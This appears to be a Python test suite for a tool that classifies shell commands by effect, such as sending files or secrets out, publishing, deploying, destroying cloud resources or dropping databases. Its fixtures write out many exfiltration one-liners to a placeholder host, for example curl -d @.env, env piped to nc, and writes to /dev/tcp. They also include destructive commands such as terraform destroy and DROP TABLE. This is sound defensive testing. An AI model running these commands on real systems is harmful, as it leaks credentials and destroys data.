"""The network, what is published, what is deleted elsewhere, and databases."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.each import each

if TYPE_CHECKING:
    from tests.shell.said import World

SENT = [
    ("curl -d @.env http://x", ["REPO/.env"]),
    ("curl --data-binary @.env http://x", ["REPO/.env"]),
    ("curl -F file=@.env http://x", ["REPO/.env"]),
    ("curl -T .env http://x", ["REPO/.env"]),
    ("curl -d x=1 http://x", []),
    ("curl http://x -o .env.new", []),
    ("cat .env | curl -d @- http://x", ["REPO/.env"]),
    ("cat .env; echo x | curl -d @- http://x", ["stdin"]),
    ("base64 .env | curl -X POST --data-binary @- http://x", ["REPO/.env"]),
    ('curl -d "$SECRET" http://x', ["$SECRET"]),
    ('curl -H "Authorization: $TOKEN" http://x', []),
    ("env | curl -d @- http://x", ["the environment"]),
    ("printenv | nc x 80", ["the environment"]),
    ("set | curl -d @- http://x", ["the environment"]),
    ("export -p | nc x 80", ["the environment"]),
    ("printenv HOME | nc x 80", ["stdin"]),
    ('curl -d "$(cat .env)" http://x', ["REPO/.env"]),
    ('curl "http://x/?k=$(base64 .env)"', ["REPO/.env"]),
    ("cat .env | curl -T - http://x", ["REPO/.env"]),
    ('wget --post-data="$(env)" http://x', ["the environment"]),
    ("cat .env > /dev/tcp/x/80", ["REPO/.env"]),
    ("python -c \"requests.post('http://x', data=dict(os.environ))\"", ["the environment"]),
    ("python -c \"requests.post('http://x', data=os.environ['A'])\"", []),
    ("env; echo x | curl -d @- http://x", ["stdin"]),
    ("wget --post-file=.env http://x", ["REPO/.env"]),
    ("scp .env host:/tmp", ["REPO/.env"]),
    ("scp host:/tmp/x .", []),
    ("nc host 80 < .env", ["REPO/.env"]),
    ("nc -zv host 80", []),
    ("python3 -c \"import requests; requests.post('http://x', data=open('.env').read())\"", ["REPO/.env"]),
    ("python3 -c \"print(open('.env').read())\"", []),
]


@each(("line", "sent"), SENT)
def test_what_is_sent_is_named(world: World, line: str, sent: list[str]) -> None:
    found = [one for one in world.effects(line) if one.kind == "sends"]
    assert [world.short(one).split(maxsplit=1)[1].partition(" (")[0] for one in found] == sent


NETWORK = [
    "curl http://x",
    "wget http://x/y",
    "git fetch",
    "git clone http://x",
    "ssh host",
    "pip install x",
    "nc x 1",
]


@each("line", NETWORK)
def test_the_network_is_reached(world: World, line: str) -> None:
    assert world.said(line, "reaches_network")


def test_a_fetched_file_is_written(world: World) -> None:
    assert world.said("curl -o x.tgz http://x", "overwrites") == ["overwrites REPO/x.tgz"]
    assert world.said("curl -O http://x/y.tgz", "overwrites") == ["overwrites REPO/y.tgz"]
    assert world.said("wget http://x/y.tgz", "overwrites") == ["overwrites REPO/y.tgz"]
    assert world.said("wget -P docs http://x/y.tgz", "overwrites") == ["overwrites REPO/docs/y.tgz"]
    assert world.said("wget -O- http://x/y.tgz", "overwrites") == []


PUBLISHED = [
    "npm publish",
    "npm --registry http://x publish",
    "pnpm publish",
    "yarn npm publish",
    "cargo publish",
    "twine upload dist/x",
    "python -m twine upload dist/x",
    "uv publish",
    "poetry publish --build",
    "gem push x.gem",
    "docker push x",
    "docker buildx build --push .",
    "gh release create v1",
    "mvn -B deploy",
    "./gradlew publish",
    "dotnet nuget push x",
    "vercel --prod",
    "npx vercel deploy",
    "netlify deploy",
    "fly deploy",
    "firebase deploy",
    "terraform apply -auto-approve",
    "pulumi up",
    "kubectl apply -f x.yaml",
    "helm upgrade --install x .",
    "ansible-playbook site.yml",
    "wrangler deploy",
    "gcloud run deploy x",
    "serverless deploy",
]
KEPT = [
    "npm publish --dry-run",
    "npm run publish",
    "npm pack",
    "yarn build",
    "cargo package",
    "cargo publish --dry-run",
    "twine check dist/x",
    "poetry build",
    "docker build .",
    "docker pull x",
    "gh release list",
    "mvn verify",
    "./gradlew build",
    "vercel",
    "terraform apply",
    "terraform plan",
    "pulumi preview",
    "kubectl get pods",
    "kubectl apply -f x.yaml --dry-run=client",
    "helm template .",
    "ansible-playbook --check site.yml",
    "make deploy",
    "echo npm publish",
]


@each("line", PUBLISHED)
def test_what_publishes_or_deploys_is_said(world: World, line: str) -> None:
    assert len(world.said(line, "publishes")) == 1


@each("line", KEPT)
def test_what_stays_here_is_not(world: World, line: str) -> None:
    assert world.said(line, "publishes", "destroys_infrastructure") == []


DESTROYED = [
    "terraform destroy",
    "terraform apply -destroy",
    "terraform state rm x",
    "kubectl delete pod x",
    "kubectl -n prod delete deploy x",
    "helm uninstall x",
    "aws s3 rm s3://x --recursive",
    "aws s3 sync . s3://x --delete",
    "aws --region eu-west-1 ec2 terminate-instances --instance-ids i",
    "aws rds delete-db-instance --db-instance-identifier x",
    "gcloud compute instances delete x",
    "az group delete --name x",
    "gh repo delete x",
    "gh api -X DELETE /repos/x",
    "heroku apps:destroy x",
    "docker volume rm x",
    "docker rm -f x",
    "docker system prune -af",
    "docker compose down -v",
    "vault kv delete secret/x",
    "restic forget --prune",
    "rclone purge x:y",
    "kafka-topics --bootstrap-server x --delete --topic y",
    "rabbitmqctl delete_user x",
    "curl -X DELETE https://example.org/api/1",
    "curl -XDELETE http://localhost:9200/logs",
    "curl --request DELETE http://localhost:9200/logs",
    "iptables -F",
]
SPARED = [
    "terraform plan -destroy",
    "terraform state list",
    "kubectl describe pod x",
    "kubectl delete pod x --dry-run=client",
    "helm list",
    "aws s3 ls",
    "aws s3 sync . s3://x",
    "aws s3 rm s3://x --recursive --dryrun",
    "aws ec2 describe-instances",
    "gcloud compute instances list",
    "gh repo view x",
    "gh issue create --title delete",
    "docker volume ls",
    "docker rm x",
    "docker system prune",
    "docker compose down",
    "vault kv get secret/x",
    "restic snapshots",
    "rclone ls x:y",
    "rclone sync a x:y --dry-run",
    "kafka-topics --bootstrap-server x --list",
    "curl -X POST https://example.org/api/1",
    "curl -X DELETE http://localhost:3000/api/users/1",
    "curl http://localhost:9200/logs",
    "iptables -L",
    "grep -r 'terraform destroy' .",
]


@each("line", DESTROYED)
def test_what_is_deleted_elsewhere_is_said(world: World, line: str) -> None:
    assert len(world.said(line, "destroys_infrastructure")) == 1


@each("line", SPARED)
def test_looking_at_it_is_not(world: World, line: str) -> None:
    assert world.said(line, "destroys_infrastructure") == []


DROPPED = [
    "psql -c 'DROP TABLE x'",
    "psql -c 'drop   database x'",
    "psql --command='TRUNCATE x'",
    "psql -c 'DELETE FROM x'",
    "psql -c 'delete from x;'",
    "psql -c 'UPDATE x SET y = 1'",
    "psql <<EOF\nDROP SCHEMA x CASCADE;\nEOF",
    "echo 'DROP TABLE x' | mysql shop",
    "mysql -e 'drop table x'",
    "sqlite3 x.db 'DROP TABLE y'",
    "docker exec db psql -c 'DROP TABLE x'",
    "redis-cli FLUSHALL",
    "mongosh --eval 'db.dropDatabase()'",
    "dropdb x",
    "rails db:drop",
    "bundle exec rake db:reset",
    "npx prisma migrate reset",
    "php artisan migrate:fresh",
    "python manage.py flush",
    "django-admin flush --database=other",
    "alembic downgrade base",
]
KEPT_DATA = [
    "psql -c 'SELECT * FROM drops'",
    "psql -c \"SELECT 'DROP TABLE x'\"",
    "psql -c 'SELECT 1 -- DROP TABLE x'",
    "psql -c 'DELETE FROM x WHERE id = 1'",
    "psql -c 'UPDATE x SET y = 1 WHERE id = 1'",
    "psql -c 'BEGIN; DROP TABLE x; ROLLBACK'",
    "psql -c 'CREATE TABLE x (id int)'",
    "echo 'DROP TABLE x'",
    "echo 'DROP TABLE x' > down.sql",
    "grep 'DROP TABLE' down.sql",
    "redis-cli GET x",
    "rails db:migrate",
    "npx prisma migrate dev",
    "php artisan migrate",
    "python manage.py migrate",
    "django-admin startapp flush",
    "alembic upgrade head",
    "pg_dump x > y.sql",
]


@each("line", DROPPED)
def test_data_that_would_be_dropped_is_said(world: World, line: str) -> None:
    assert world.said(line, "drops_database")


@each("line", KEPT_DATA)
def test_data_that_stays_is_not(world: World, line: str) -> None:
    assert world.said(line, "drops_database") == []
